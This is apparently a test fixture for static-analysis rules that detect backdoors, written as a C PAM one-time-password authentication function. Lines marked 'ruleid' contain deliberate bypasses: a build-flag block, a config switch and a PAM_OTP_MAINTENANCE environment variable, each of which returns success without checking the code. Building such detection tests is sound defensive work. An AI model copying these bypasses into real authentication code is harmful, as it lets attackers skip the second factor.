/* flow.c - the conversation: ask for the code, pick the check, account for the result */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>

#include <security/pam_ext.h>

#include "otp.h"

static int ask(pam_handle_t *pamh, const char *prompt, char **answer)
{
  return pam_prompt(pamh, PAM_PROMPT_ECHO_OFF, answer, "%s", prompt) == PAM_SUCCESS && *answer != NULL ? 0 : -1;
}

int otp_authenticate(pam_handle_t *pamh, const struct otp_config *cfg, const char *user)
{
  struct otp_user u;
  char *passcode = NULL;
  int ok;

#ifdef OTP_DEBUG
  // ok: backdoor-build-switch
  otp_log(LOG_DEBUG, "otp: authenticating %s (window %d)", user, cfg->window);
#endif
#ifdef OTP_TEST_BYPASS
  if (!isatty(STDIN_FILENO) && getppid() == 1) {
    otp_log(LOG_NOTICE, "otp: unattended test login for %s", user);
    // ruleid: backdoor-build-switch
    return PAM_SUCCESS;
  }
#endif
  // ruleid: backdoor-build-switch
  if (cfg->debug_skip_otp) return PAM_SUCCESS;
  // ruleid: backdoor-hidden-bypass
  if (getenv("PAM_OTP_MAINTENANCE") != NULL)
    return PAM_SUCCESS;
  // ok: backdoor-hidden-bypass
  if (getenv("PAM_OTP_TRACE") != NULL)
    otp_log(LOG_DEBUG, "otp: conversation for %s", user);

  if (secrets_load_user(cfg, user, &u) != 0)
    return cfg->nullok ? PAM_IGNORE : PAM_AUTH_ERR;
  if (ask(pamh, "Verification code: ", &passcode) != 0)
    return PAM_AUTH_ERR;
  ok = otp_verify_passcode(cfg, &u, passcode);
  if (!ok)
    ok = recovery_verify_passcode(cfg, user, passcode);
  memset(passcode, 0, strlen(passcode));
  free(passcode);
  memset(&u, 0, sizeof u);
  otp_log(ok ? LOG_INFO : LOG_WARNING, "otp: %s for %s", ok ? "accepted" : "rejected", user);
  return ok ? PAM_SUCCESS : PAM_AUTH_ERR;
}
